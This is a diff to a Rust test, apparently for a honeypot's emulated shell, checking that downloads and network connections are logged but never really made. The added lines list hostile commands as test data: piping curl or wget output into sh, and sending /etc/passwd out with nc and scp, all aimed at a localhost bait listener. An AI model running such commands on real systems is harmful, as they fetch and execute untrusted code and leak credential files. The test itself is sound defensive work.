@@ -117,7 +117,7 @@ async fn recordings_stop_at_their_size_limit_and_can_be_turned_off() {
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn downloads_are_emulated_logged_and_never_fetched() {
+async fn downloads_and_connections_are_emulated_logged_and_never_made() {
     // A real server the URL points at; nothing may ever connect to it.
     let bait = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
     bait.set_nonblocking(true).unwrap();
@@ -140,10 +140,38 @@ async fn downloads_are_emulated_logged_and_never_fetched() {
     assert_eq!(download["url"], url);
     assert_eq!(download["outfile"], "/tmp/bins.sh");
     assert_eq!(download["shasum"].as_str().unwrap().len(), 64);
+    // Every other tool an attacker reaches the network with, at the same real listener (TCP)
+    // and a real UDP socket on the same port (tftp): answered, never done.
+    let bait_addr = bait.local_addr().unwrap();
+    let udp_bait = std::net::UdpSocket::bind(bait_addr).unwrap();
+    udp_bait.set_nonblocking(true).unwrap();
+    let (host, port) = (bait_addr.ip(), bait_addr.port());
+    for command in [
+        format!("curl -sS -o /tmp/c.sh {url}"),
+        format!("curl -s {url} | sh"),
+        format!("wget -qO- {url} | sh"),
+        format!("nc {host} {port} < /etc/passwd"),
+        format!("nc -u {host} {port} < /etc/passwd"),
+        format!("ssh -p {port} root@{host} id"),
+        format!("scp -P {port} /etc/passwd root@{host}:/tmp/"),
+        format!("telnet {host} {port}"),
+        format!("ftpget {host} f f"),
+        format!("tftp -g -r f {host} {port}"),
+        format!("busybox wget {url}"),
+    ] {
+        let (out, status) = shell.exec(&command).await;
+        assert!(status.is_some(), "{command}: no exit status ({out:?})");
+    }
     let contacted = bait.accept();
     assert!(
         matches!(&contacted, Err(e) if e.kind() == std::io::ErrorKind::WouldBlock),
-        "the URL was fetched for real: {contacted:?}"
+        "a command reached the network for real: {contacted:?}"
+    );
+    let mut datagram = [0u8; 64];
+    let received = udp_bait.recv_from(&mut datagram);
+    assert!(
+        matches!(&received, Err(e) if e.kind() == std::io::ErrorKind::WouldBlock),
+        "a command sent a datagram for real: {received:?}"
     );
 }
 
